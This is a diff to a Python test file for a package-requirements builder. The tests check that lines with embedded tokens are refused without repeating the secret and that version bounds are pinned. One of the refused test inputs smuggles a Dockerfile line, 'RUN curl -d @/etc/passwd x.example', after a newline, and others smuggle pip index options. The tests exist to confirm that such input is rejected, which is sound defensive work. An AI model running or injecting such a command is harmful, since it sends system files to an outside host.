@@ -44,7 +44,12 @@ def test_an_authors_package_line_wins_over_ours_and_is_pinned_too() -> None:
 
 @pytest.mark.parametrize(
     "line",
-    ["mine @ git+https://canary@github.com/me/mine", "mine @ https://me:canary@index.example/mine.whl"],
+    [
+        "mine @ git+https://canary@github.com/me/mine",
+        "mine @ https://me:canary@index.example/mine.whl",
+        "mine @ https://index.example/mine.whl?private_token=canary",
+        "mine@https://index.example/mine.whl?X-Amz-Signature=canary#sha256=0",
+    ],
 )
 def test_an_address_with_a_token_is_refused_and_not_repeated(line: str) -> None:
     with pytest.raises(ConfigError, match="'mine'") as caught:
@@ -52,7 +57,28 @@ def test_an_address_with_a_token_is_refused_and_not_repeated(line: str) -> None:
     assert "canary" not in str(caught.value)
 
 
-@pytest.mark.parametrize("line", ["--index-url x", "./mine", "mine @ file:///home/me/mine", "https://x.example/a.whl"])
+def test_an_archive_that_everybody_can_fetch_is_taken_as_it_is() -> None:
+    line = "mine @ https://index.example/mine.whl#sha256=0"
+    assert line in packages.requirements(extra_packages=[line])
+
+
+def test_bounds_in_parentheses_are_pinned_beside_them() -> None:
+    (line,) = [line for line in packages.requirements(extra_packages=["orjson (>=3,<9)"]) if line.startswith("orjson")]
+    assert line == f"orjson>=3,<9,=={metadata.version('orjson')}"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--index-url x",
+        "./mine",
+        "mine @ file:///home/me/mine",
+        "https://x.example/a.whl",
+        "numpy\nRUN curl -d @/etc/passwd x.example",
+        "numpy --index-url=x",
+        "numpy -r other.txt",
+    ],
+)
 def test_what_is_no_fetchable_package_is_refused(line: str) -> None:
     with pytest.raises(ConfigError):
         packages.requirements(extra_packages=[line])
